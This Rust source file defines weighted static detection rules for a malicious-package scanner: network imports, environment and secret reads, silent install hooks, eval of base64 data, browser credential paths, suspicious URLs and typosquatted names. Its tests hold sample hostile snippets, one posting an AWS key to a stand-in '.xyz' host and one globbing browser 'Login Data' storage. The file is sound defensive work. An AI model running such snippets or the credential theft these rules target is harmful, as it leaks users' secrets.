//! Static detection rules over lowered PyLite modules and package
//! metadata.

use minilang::lower::Program;
use minilang::Module;
use oss_types::PackageName;
use std::fmt;

/// A static rule identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum RuleId {
    /// Imports a network library (`requests`, `socket`).
    NetworkImport,
    /// Reads the environment or credentials (`os.environ`, `os.getenv`).
    EnvRead,
    /// References secret-looking names (`AWS_…`, `SECRET`, `TOKEN`).
    SecretStrings,
    /// Top-level `try:`/`except: pass` wrapping a call — the classic
    /// silent install-time hook.
    SilentInstallHook,
    /// `eval` of data.
    EvalUsage,
    /// Spawns processes (`subprocess`).
    SubprocessUsage,
    /// Touches the clipboard.
    ClipboardAccess,
    /// Globs browser/credential storage paths.
    CredentialPaths,
    /// Decodes base64 blobs (staged payloads).
    Base64Decode,
    /// Unbounded `while True:` loop (beacons, hijack poll loops).
    UnboundedLoop,
    /// Hard-coded low-reputation URL (`.xyz`, `.top`, raw `http://`).
    SuspiciousUrl,
    /// Package name within edit distance 2 of a popular package.
    TyposquatName,
}

impl RuleId {
    /// All rules.
    pub const ALL: [RuleId; 12] = [
        RuleId::NetworkImport,
        RuleId::EnvRead,
        RuleId::SecretStrings,
        RuleId::SilentInstallHook,
        RuleId::EvalUsage,
        RuleId::SubprocessUsage,
        RuleId::ClipboardAccess,
        RuleId::CredentialPaths,
        RuleId::Base64Decode,
        RuleId::UnboundedLoop,
        RuleId::SuspiciousUrl,
        RuleId::TyposquatName,
    ];

    /// Rule weight: how strongly a hit indicates malice. Individually
    /// weak signals (network import) score low; combinations add up.
    pub fn weight(self) -> f64 {
        match self {
            RuleId::NetworkImport => 1.0,
            RuleId::EnvRead => 1.5,
            RuleId::SecretStrings => 2.5,
            RuleId::SilentInstallHook => 2.5,
            RuleId::EvalUsage => 3.0,
            RuleId::SubprocessUsage => 1.5,
            RuleId::ClipboardAccess => 2.0,
            RuleId::CredentialPaths => 3.0,
            RuleId::Base64Decode => 1.5,
            RuleId::UnboundedLoop => 1.0,
            RuleId::SuspiciousUrl => 2.0,
            RuleId::TyposquatName => 1.5,
        }
    }

    /// Short label for reports.
    pub fn label(self) -> &'static str {
        match self {
            RuleId::NetworkImport => "network-import",
            RuleId::EnvRead => "env-read",
            RuleId::SecretStrings => "secret-strings",
            RuleId::SilentInstallHook => "silent-install-hook",
            RuleId::EvalUsage => "eval-usage",
            RuleId::SubprocessUsage => "subprocess-usage",
            RuleId::ClipboardAccess => "clipboard-access",
            RuleId::CredentialPaths => "credential-paths",
            RuleId::Base64Decode => "base64-decode",
            RuleId::UnboundedLoop => "unbounded-loop",
            RuleId::SuspiciousUrl => "suspicious-url",
            RuleId::TyposquatName => "typosquat-name",
        }
    }
}

impl fmt::Display for RuleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// Evaluates every rule against a module (and optionally the package
/// name, for the typosquat rule). Returns the matched rules.
pub fn matched_rules(module: &Module, package_name: Option<&PackageName>) -> Vec<RuleId> {
    let mut hits = module_rule_hits(&Program::lower(module));
    if let Some(name) = package_name {
        if name_is_squat(name) {
            hits.push(RuleId::TyposquatName);
        }
    }
    hits
}

/// The module-dependent rules alone — everything except
/// [`RuleId::TyposquatName`], which is the only rule that reads the
/// package name and is always appended last. Cacheable per source text:
/// `matched_rules(m, Some(n))` ≡ `module_rule_hits(&Program::lower(m))`
/// plus the name rule. Reads the facts the lowering gathered.
pub fn module_rule_hits(program: &Program) -> Vec<RuleId> {
    let facts = program.facts();
    let imports = |name: &str| facts.imports.iter().any(|m| &**m == name);
    let mut hits = Vec::new();
    if imports("requests") || imports("socket") {
        hits.push(RuleId::NetworkImport);
    }
    if facts
        .paths
        .iter()
        .any(|a| &**a == "os.getenv" || a.starts_with("os.environ"))
    {
        hits.push(RuleId::EnvRead);
    }
    if facts.strings.iter().any(|s| {
        let upper = s.to_ascii_uppercase();
        upper.contains("AWS_") || upper.contains("SECRET") || upper.contains("TOKEN")
    }) {
        hits.push(RuleId::SecretStrings);
    }
    if facts.silent_hook {
        hits.push(RuleId::SilentInstallHook);
    }
    if facts.calls_eval {
        hits.push(RuleId::EvalUsage);
    }
    if imports("subprocess") {
        hits.push(RuleId::SubprocessUsage);
    }
    if imports("clipboard") {
        hits.push(RuleId::ClipboardAccess);
    }
    if facts
        .strings
        .iter()
        .any(|s| s.contains("Login Data") || s.contains(".config/") || s.contains(".ssh"))
    {
        hits.push(RuleId::CredentialPaths);
    }
    if imports("base64") {
        hits.push(RuleId::Base64Decode);
    }
    if facts.unbounded_loop {
        hits.push(RuleId::UnboundedLoop);
    }
    if facts.strings.iter().any(|s| {
        s.starts_with("http://")
            || s.starts_with("stratum://")
            || s.ends_with(".xyz")
            || s.ends_with(".top")
    }) {
        hits.push(RuleId::SuspiciousUrl);
    }
    hits
}

/// Whether `name` is within typosquat distance of a popular registry
/// package — the [`RuleId::TyposquatName`] predicate. The popular-target
/// list is parsed once and reused across every scan.
pub fn name_is_squat(name: &PackageName) -> bool {
    static TARGETS: std::sync::OnceLock<Vec<PackageName>> = std::sync::OnceLock::new();
    TARGETS
        .get_or_init(|| {
            registry_sim::names::POPULAR_TARGETS
                .iter()
                .map(|t| PackageName::new(t).expect("popular targets are valid"))
                .collect()
        })
        .iter()
        .any(|target| name.is_typosquat_of(target))
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::parse;

    fn rules_for(src: &str) -> Vec<RuleId> {
        matched_rules(&parse(src).unwrap(), None)
    }

    #[test]
    fn exfil_pattern_trips_the_expected_rules() {
        let hits = rules_for(
            "import os\nimport requests\nk = os.getenv('AWS_ACCESS_KEY_ID')\n\
             requests.post('http://x.xyz/u', k)\n",
        );
        assert!(hits.contains(&RuleId::NetworkImport));
        assert!(hits.contains(&RuleId::EnvRead));
        assert!(hits.contains(&RuleId::SecretStrings));
        assert!(hits.contains(&RuleId::SuspiciousUrl));
    }

    #[test]
    fn silent_hook_detection() {
        let hits = rules_for("def f():\n    pass\ntry:\n    f()\nexcept:\n    pass\n");
        assert!(hits.contains(&RuleId::SilentInstallHook));
        // A try block that handles errors with real code is not a hook.
        let hits = rules_for("try:\n    f()\nexcept:\n    log('fail')\n");
        assert!(!hits.contains(&RuleId::SilentInstallHook));
    }

    #[test]
    fn eval_and_base64_and_loop() {
        let hits =
            rules_for("import base64\nd = base64.b64decode(x)\neval(d)\nwhile True:\n    pass\n");
        assert!(hits.contains(&RuleId::EvalUsage));
        assert!(hits.contains(&RuleId::Base64Decode));
        assert!(hits.contains(&RuleId::UnboundedLoop));
    }

    #[test]
    fn clean_code_matches_nothing() {
        let hits = rules_for(
            "def add(items):\n    total = 0\n    for i in items:\n        total = total + i\n    return total\n",
        );
        assert!(hits.is_empty(), "clean code matched {hits:?}");
    }

    #[test]
    fn typosquat_rule_needs_the_name() {
        let module = parse("x = 1\n").unwrap();
        let squat: PackageName = "reqests".parse().unwrap();
        let honest: PackageName = "left-pad-utils".parse().unwrap();
        assert!(matched_rules(&module, Some(&squat)).contains(&RuleId::TyposquatName));
        assert!(!matched_rules(&module, Some(&honest)).contains(&RuleId::TyposquatName));
        assert!(!matched_rules(&module, None).contains(&RuleId::TyposquatName));
    }

    #[test]
    fn credential_paths() {
        let hits = rules_for("import glob\np = glob.glob('~/.config/app/Login Data')\n");
        assert!(hits.contains(&RuleId::CredentialPaths));
    }

    #[test]
    fn weights_are_positive_and_labels_unique() {
        let mut labels: Vec<_> = RuleId::ALL.iter().map(|r| r.label()).collect();
        labels.sort_unstable();
        labels.dedup();
        assert_eq!(labels.len(), RuleId::ALL.len());
        assert!(RuleId::ALL.iter().all(|r| r.weight() > 0.0));
    }
}
